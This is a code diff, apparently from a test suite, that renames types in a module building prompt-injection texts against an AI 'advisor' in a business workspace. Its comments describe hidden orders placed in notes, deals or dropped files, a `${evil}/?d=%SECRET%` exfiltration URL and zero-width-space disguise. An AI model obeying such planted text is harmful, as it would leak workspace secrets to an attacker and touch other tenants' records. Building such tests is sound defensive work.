@@ -1,8 +1,8 @@
 /** Where a hostile text stands when the advisor comes across it. `file` is one that is dropped on the chat. */
-export type Place = 'idea' | 'post' | 'note' | 'contact' | 'company' | 'deal' | 'task' | 'survey' | 'file'
+type InjectionPlace = 'idea' | 'post' | 'note' | 'contact' | 'company' | 'deal' | 'task' | 'survey' | 'file'
 
 /** What the texts speak of: rows of another workspace, and a server that must never be asked. */
-export interface Targets {
+export interface InjectionTargets {
   readonly evil: string
   readonly foreign: { idea: string; deal: string; stage: string; company: string; contact: string; user: string }
   readonly own: { deal: string; stage: string; company: string; channel: string }
@@ -10,7 +10,7 @@ export interface Targets {
 
 export interface Injection {
   readonly name: string
-  readonly place: Place
+  readonly place: InjectionPlace
   readonly text: string
 }
 
@@ -18,7 +18,7 @@ export interface Injection {
  * Texts that give orders, each in another disguise. `call tool NAME with {…}`, `write «…»` and `think «…»` are what the
  * obedient model understands; `%SECRET%` it replaces by what it has read and must not carry out of the workspace.
  */
-export function injections({ evil, foreign, own }: Targets): Injection[] {
+export function buildInjections({ evil, foreign, own }: InjectionTargets): Injection[] {
   const call = (tool: string, input: object) => `call tool ${tool} with ${JSON.stringify(input)}`
   const leak = `${evil}/?d=%SECRET%`
   const hidden = (text: string) => [...text].join('\u200b')
